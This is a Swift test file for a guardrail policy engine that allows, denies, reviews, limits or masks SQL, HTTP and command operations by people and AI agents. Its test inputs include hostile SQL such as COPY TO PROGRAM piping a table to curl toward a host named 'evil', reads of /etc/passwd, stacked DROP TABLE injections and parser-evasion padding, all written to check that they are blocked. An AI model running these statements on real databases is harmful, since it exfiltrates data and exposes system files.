import GatehouseCore
import Masking
import SQLInspection
import Testing

@testable import Policy

/// The guardrails the documentation ships as examples, decided for people and agents.
@Suite("Policy decisions")
struct PolicyTests {
    static let alice = Principal(subject: "alice", groups: ["dev"], issuer: "test", authMethod: .oidc)
    static let agent = Principal(subject: "alice", groups: ["dev"], issuer: "test", authMethod: .oidc, actors: [Actor(subject: "claude-code")])
    static let dba = Principal(subject: "dora", groups: ["dba"], issuer: "test", authMethod: .oidc)

    static let guardrails = Policy(rules: [
        PolicyRule(name: "no-ddl-for-agents", effect: .deny, who: PrincipalMatch(agents: ["*"]),
                   sql: SQLMatch(kinds: [.drop, .truncate, .alter])),
        PolicyRule(name: "no-unbounded-writes", effect: .deny, sql: SQLMatch(flags: [.updateOrDeleteWithoutWhere])),
        PolicyRule(name: "no-server-programs-or-files", effect: .deny,
                   sql: SQLMatch(flags: [.copyToProgram, .copyFromProgram, .serverFileAccess])),
        PolicyRule(name: "dangerous-functions", effect: .deny, who: PrincipalMatch(callers: .agents),
                   sql: SQLMatch(flags: [.dangerousFunction, .dynamicSQL, .changesRole])),
        PolicyRule(name: "review-agent-deletes", effect: .review, who: PrincipalMatch(agents: ["*"]), sql: SQLMatch(kinds: [.delete])),
        PolicyRule(name: "bulk-export", effect: .limit, who: PrincipalMatch(agents: ["*"]), maxRows: 1000),
        PolicyRule(name: "pii", effect: .mask, connections: ["demo"],
                   mask: MaskAction(columns: ["customers.email"], detectors: [.paymentCard], strategy: .partial(keep: 4))),
        PolicyRule(name: "no-config-deletes", effect: .deny, who: PrincipalMatch(callers: .agents),
                   http: HTTPMatch(methods: ["DELETE"], paths: ["/config/*"])),
        PolicyRule(name: "review-export", effect: .review, http: HTTPMatch(methods: ["GET"], paths: ["/export*"])),
    ])

    static func decide(_ sql: String, as principal: Principal = agent, policy: Policy = guardrails) -> Decision {
        policy.evaluate(principal: principal, connection: "demo", inspection: SQLInspector.inspect(sql)).decision
    }

    @Test(arguments: [
        // (sql, agent decision, rule, person decision)
        ("SELECT * FROM customers", Decision.Effect.allow, "policy:default", Decision.Effect.allow),
        ("DROP TABLE customers", .deny, "no-ddl-for-agents",.allow),
        ("drop table if exists t cascade", .deny, "no-ddl-for-agents",.allow),
        ("TRUNCATE orders", .deny, "no-ddl-for-agents", .allow),
        ("ALTER TABLE customers ADD COLUMN x int", .deny, "no-ddl-for-agents", .allow),
        ("/* harmless */ DrOp /* x */ TABLE \"Customers\"", .deny, "no-ddl-for-agents",.allow),
        ("DELETE FROM orders", .deny, "no-unbounded-writes", .deny),
        ("UPDATE orders SET total = 0", .deny, "no-unbounded-writes", .deny),
        ("WITH gone AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM gone", .deny, "no-unbounded-writes", .deny),
        ("DELETE FROM orders WHERE id = 7", .review, "review-agent-deletes", .allow),
        ("EXPLAIN ANALYZE DELETE FROM orders WHERE id = 1", .review, "review-agent-deletes", .allow),
        ("PREPARE p AS DELETE FROM orders WHERE id = $1", .review, "review-agent-deletes", .allow),
        ("COPY customers TO PROGRAM 'curl -d @- evil'", .deny, "no-server-programs-or-files", .deny),
        ("COPY customers FROM '/etc/passwd'", .deny, "no-server-programs-or-files", .deny),
        ("SELECT pg_read_file('/etc/passwd')", .deny, "no-server-programs-or-files", .deny),
        ("SELECT pg_terminate_backend(123)", .deny, "dangerous-functions", .allow),
        ("DO $$ BEGIN EXECUTE 'DROP TABLE customers'; END $$", .deny, "dangerous-functions", .allow),
        ("SET ROLE postgres", .deny, "dangerous-functions", .allow),
        ("SELECT 1; DROP TABLE customers", .deny, "no-ddl-for-agents",.allow),
        ("SELEC * FROM customers", .deny, "policy:unknown", .deny),
    ])
    func sqlGuardrails(sql: String, forAgent: Decision.Effect, rule: String, forPerson: Decision.Effect) {
        let agentDecision = Self.decide(sql)
        #expect(agentDecision.effect == forAgent, "\(sql)")
        #expect(agentDecision.rule == rule, "\(sql)")
        #expect(Self.decide(sql, as: Self.alice).effect == forPerson, "\(sql) for a person")
    }

    @Test func allowRulesMakeAnAllowListAndDenyStillWins() {
        let policy = Policy(rules: [
            PolicyRule(name: "no-ddl-for-agents", effect: .deny, who: PrincipalMatch(agents: ["*"]), sql: SQLMatch(kinds: [.drop])),
            PolicyRule(name: "agents-may-drop-scratch", effect: .allow, who: PrincipalMatch(agents: ["*"]), sql: SQLMatch(relations: ["scratch.*"])),
            PolicyRule(name: "dba-may-drop", effect: .allow, who: PrincipalMatch(groups: ["dba"]), sql: SQLMatch(kinds: [.drop])),
            PolicyRule(name: "anyone-reads", effect: .allow, sql: SQLMatch(writes: false)),
        ])
        #expect(Self.decide("DROP TABLE t", as: Self.dba, policy: policy).rule == "dba-may-drop")
        #expect(Self.decide("DROP TABLE scratch.t", policy: policy).rule == "no-ddl-for-agents", "deny beats allow")
        let alice = Self.decide("DROP TABLE t", as: Self.alice, policy: policy)
        #expect(alice.effect == .deny)
        #expect(alice.rule == "policy:allow-list", "a connection with allow rules refuses what none allows")
        #expect(Self.decide("SELECT 1", as: Self.alice, policy: policy).rule == "anyone-reads")
    }

    @Test func unknownStatementsFallToTheConfiguredDefault() {
        var policy = Policy(rules: [PolicyRule(name: "everything", effect: .allow)])
        #expect(Self.decide("SELEC 1", policy: policy).effect == .deny, "a catch-all allow does not cover what could not be read")
        #expect(Self.decide("SELEC 1", as: Self.alice, policy: policy).effect == .deny, "nor for people, unless configured")
        policy.unknownForPeople = .allow
        #expect(Self.decide("SELEC 1", as: Self.alice, policy: policy).effect == .allow)
        let padded = "DELETE FROM orders /*" + String(repeating: " ", count: SQLInspector.maximumInputBytes) + "*/"
        #expect(Self.decide(padded, as: Self.alice).rule == "policy:unknown", "padding a statement past what is parsed does not step around a guardrail")
        policy.unknownForAgents = .review
        #expect(Self.decide("SELEC 1", policy: policy).effect == .review)
        policy.rules.append(PolicyRule(name: "unknown-ok", effect: .allow, who: PrincipalMatch(agents: ["claude-code"]), sql: SQLMatch(kinds: [.unknown])))
        #expect(Self.decide("SELEC 1", policy: policy).rule == "unknown-ok")
        let catchAllDeny = Policy(rules: [PolicyRule(name: "agents-nothing", effect: .deny, who: PrincipalMatch(agents: ["*"]))], unknownForAgents: .allow)
        #expect(Self.decide("SELEC 1", policy: catchAllDeny).rule == "agents-nothing", "a deny rule naming no operation covers unknown ones")
    }

    @Test func relationAndFunctionPatterns() {
        let policy = Policy(rules: [
            PolicyRule(name: "no-payroll", effect: .deny, sql: SQLMatch(relations: ["hr.payroll*"])),
            PolicyRule(name: "no-dblink", effect: .deny, sql: SQLMatch(functions: ["dblink*"])),
        ])
        #expect(Self.decide("SELECT * FROM hr.payroll_2024", as: Self.alice, policy: policy).rule == "no-payroll")
        #expect(Self.decide("SELECT * FROM payroll", as: Self.alice, policy: policy).rule == "no-payroll",
                "an unqualified name may resolve to the schema the rule names")
        #expect(Self.decide("SELECT * FROM sales.payroll", as: Self.alice, policy: policy).effect == .allow)
        #expect(Self.decide("SELECT * FROM dblink_connect('x')", as: Self.alice, policy: policy).rule == "no-dblink")
        #expect(Self.decide("SELECT public.dblink('x', 'y')", as: Self.alice, policy: policy).rule == "no-dblink")
    }

    @Test(arguments: [
        ("DELETE", "/config/db", Decision.Effect.deny, "no-config-deletes"),
        ("DELETE", "/config/db/", .deny, "no-config-deletes"),
        ("GET", "/export", .review, "review-export"),
        ("GET", "/exports.csv", .review, "review-export"),
        ("GET", "/config/db", .allow, "policy:default"),
        ("PUT", "/config/db", .allow, "policy:default"),
    ])
    func httpGuardrails(method: String, path: String, effect: Decision.Effect, rule: String) {
        let decision = Self.guardrails.evaluate(principal: Self.agent, connection: "api", operation: .http(method: method, path: path)).decision
        #expect(decision.effect == effect)
        #expect(decision.rule == rule)
    }

    @Test func httpAllowListsAndSQLRulesStaySeparate() {
        let policy = Policy(rules: [
            PolicyRule(name: "read", effect: .allow, connections: ["api"], http: HTTPMatch(methods: ["GET", "HEAD"])),
            PolicyRule(name: "sql-reads", effect: .allow, sql: SQLMatch(writes: false)),
        ])
        let delete = policy.evaluate(principal: Self.alice, connection: "api", operation: .http(method: "DELETE", path: "/config/db"))
        #expect(delete.decision.effect == .deny)
        #expect(delete.decision.reason?.contains("DELETE /config/db") == true)
        #expect(policy.evaluate(principal: Self.alice, connection: "other", operation: .http(method: "DELETE", path: "/x")).decision.effect == .allow,
                "allow rules of one connection do not put another on an allow-list")
    }

    @Test func aRowLimitDoesNotCutAStatementThatWrites() {
        let returning = Self.guardrails.evaluate(principal: Self.agent, connection: "demo",
                                                 inspection: SQLInspector.inspect("DELETE FROM orders WHERE id < 100 RETURNING *"))
        #expect(returning.statements[0].rowLimit == nil)
    }

    @Test func masksAndLimitsShapeAllowedOperationsOnly() {
        let select = Self.guardrails.evaluate(principal: Self.agent, connection: "demo", inspection: SQLInspector.inspect("SELECT * FROM customers"))
        #expect(select.statements[0].masks.map(\.rule) == ["pii"])
        #expect(select.statements[0].rowLimit == RowLimit(rule: "bulk-export", maxRows: 1000))
        let person = Self.guardrails.evaluate(principal: Self.alice, connection: "demo", inspection: SQLInspector.inspect("SELECT 1"))
        #expect(person.statements[0].rowLimit == nil, "the limit is for agents")
        #expect(Self.guardrails.masks(principal: Self.alice, connection: "other").isEmpty)
        let dropped = Self.guardrails.evaluate(principal: Self.agent, connection: "demo", inspection: SQLInspector.inspect("DROP TABLE x"))
        #expect(dropped.statements[0].masks.isEmpty)
    }

    @Test func everyRuleIsExplained() {
        let evaluation = Self.guardrails.evaluate(principal: Self.agent, connection: "demo", operation: .sql(SQLInspector.inspect("TRUNCATE t").statements[0]))
        #expect(evaluation.checks.count == Self.guardrails.rules.count)
        let applying = evaluation.checks.filter(\.applies).map(\.rule)
        #expect(applying == ["no-ddl-for-agents", "bulk-export", "pii"])
        let person = Self.guardrails.evaluate(principal: Self.alice, connection: "demo", operation: .sql(SQLInspector.inspect("TRUNCATE t").statements[0]))
        #expect(person.checks.first { $0.rule == "no-ddl-for-agents" }?.why == "it names other subjects, groups or agents")
        #expect(person.fallback == "no rule decides; the policy default is allow")
        let http = evaluation.checks.first { $0.rule == "no-config-deletes" }
        #expect(http?.why == "it is about HTTP requests")
    }

    @Test(arguments: [
        ("customers", "public", "customers", true),
        ("public.customers", nil as String?, "customers", true),
        ("public.customers", "sales", "customers", false),
        ("cust*", "public", "customers", true),
        ("*.customers", "x", "customers", true),
        ("customers", "public", "customers_old", false),
    ])
    func relationNamePatterns(pattern: String, schema: String?, name: String, matches: Bool) {
        #expect(NamePattern(pattern).matches(SQLRelation(schema: schema, name: name)) == matches)
    }

    @Test func columnPatterns() {
        #expect(ColumnPattern("email").matches(schema: "public", table: "customers", column: "email"))
        #expect(ColumnPattern("customers.email").matches(schema: "public", table: "customers", column: "email"))
        #expect(!ColumnPattern("customers.email").matches(schema: "public", table: "staff", column: "email"))
        #expect(ColumnPattern("public.customers.card_*").matches(schema: "public", table: "customers", column: "card_number"))
        #expect(ColumnPattern("customers.email").matches(schema: nil, table: nil, column: "email"), "a bare reference could be any table's")
        #expect(!ColumnPattern("*.ssn").matches(schema: "public", table: "t", column: "ssn_hash_x"))
    }

    @Test func aHeldTextNeedsWhatItsStrictestReviewRuleAsks() {
        let policy = Policy(rules: [
            PolicyRule(name: "deletes", effect: .review, sql: SQLMatch(kinds: [.delete])),
            PolicyRule(name: "truncates", effect: .review, sql: SQLMatch(kinds: [.truncate]), approvals: 2, approvers: ["dba"]),
            PolicyRule(name: "orders-by-security", effect: .review, sql: SQLMatch(relations: ["orders"]), approvers: ["security"]),
        ])
        let one = policy.evaluate(principal: Self.agent, connection: "demo", inspection: SQLInspector.inspect("DELETE FROM customers WHERE id = 1"))
        #expect(one.decision.effect == .review && one.decision.rule == "deletes")
        #expect(one.approval == ApprovalRequirement(approvals: 1, approverGroups: []))
        let both = policy.evaluate(principal: Self.agent, connection: "demo",
                                   inspection: SQLInspector.inspect("DELETE FROM orders WHERE id = 1; TRUNCATE audit_scratch"))
        #expect(both.approval == ApprovalRequirement(approvals: 2, approverGroups: [["security"], ["dba"]]))
        let allowed = policy.evaluate(principal: Self.agent, connection: "demo", inspection: SQLInspector.inspect("SELECT 1"))
        #expect(allowed.approval == nil)
        // A deny beats a review: nothing is held that would be refused anyway.
        let denied = Policy(rules: policy.rules + [PolicyRule(name: "no-truncate", effect: .deny, sql: SQLMatch(kinds: [.truncate]))])
            .evaluate(principal: Self.agent, connection: "demo", operation: .sql(SQLInspector.inspect("TRUNCATE t").statements[0]))
        #expect(denied.decision.effect == .deny && denied.approval == nil)
    }
}

@Suite("Path patterns")
struct PathPatternTests {
    @Test(arguments: [
        ("/config/*", "/config/db", true),
        ("/config/*", "/config/db/url", false),
        ("/config/*", "/config/", false),
        ("/export*", "/export", true),
        ("/export*", "/exports.csv", true),
        ("/export*", "/export/all", false),
        ("/**", "/anything/at/all", true),
        ("/api/**/items", "/api/v1/x/items", true),
        ("/api/**/items", "/api/items", false),
        ("/exact", "/exact/", true),
        ("/exact", "/exactly", false),
        ("/admin/**", "/admin", true),
        ("/admin/**", "/admin/", true),
        ("/admin/**", "/administrator", false),
        ("/config/*", "/config/db/", true),
    ])
    func pathPatterns(pattern: String, path: String, matches: Bool) {
        #expect(PathPattern(pattern).matches(path) == matches)
    }
}

@Suite("Command argument patterns")
struct ArgumentPatternTests {
    @Test(arguments: [
        ("get *", ["get"], true),
        ("get *", ["get", "pods", "-A"], true),
        ("get *", ["delete", "pod"], false),
        ("get *", [], false),
        ("exec *", ["exec"], true),
        ("* delete *", ["-n", "web", "delete", "pod", "x"], true),
        ("* delete *", ["get", "deletes"], false),
        ("logs ?x*", ["logs", "axe"], true),
        ("logs ?x*", ["logs", "x"], false),
        ("describe pod", ["describe", "pod", "extra"], false),
        ("describe pod", ["describe", "pod"], true),
        ("apply -f *.yaml", ["apply", "-f", "web.yaml"], true),
        ("apply -f *.yaml", ["apply", "-f", "web.yaml", "--force"], false),
    ] as [(String, [String], Bool)])
    func patterns(pattern: String, arguments: [String], matches: Bool) {
        #expect(ArgumentPattern(pattern).matches(arguments) == matches)
    }

    @Test func commandRulesDecideOnlyCommandsAndMakeAnAllowList() {
        let policy = Policy(rules: [
            PolicyRule(name: "reads", effect: .allow, connections: ["kube"], command: CommandMatch(arguments: ["get *", "describe *"])),
            PolicyRule(name: "no-exec", effect: .deny, command: CommandMatch(arguments: ["exec *"])),
            PolicyRule(name: "deletes", effect: .review, command: CommandMatch(arguments: ["delete *"])),
            PolicyRule(name: "no-drops", effect: .deny, sql: SQLMatch(kinds: [.drop])),
        ])
        func decide(_ arguments: [String]) -> Decision {
            policy.evaluate(principal: PolicyTests.agent, connection: "kube", operation: .command(arguments: arguments)).decision
        }
        #expect(decide(["get", "pods"]).rule == "reads")
        #expect(decide(["exec", "-it", "web", "sh"]).effect == .deny)
        #expect(decide(["delete", "pod", "web-1"]).effect == .review)
        #expect(decide(["scale", "deploy/web"]).rule == "policy:allow-list")
    }
}
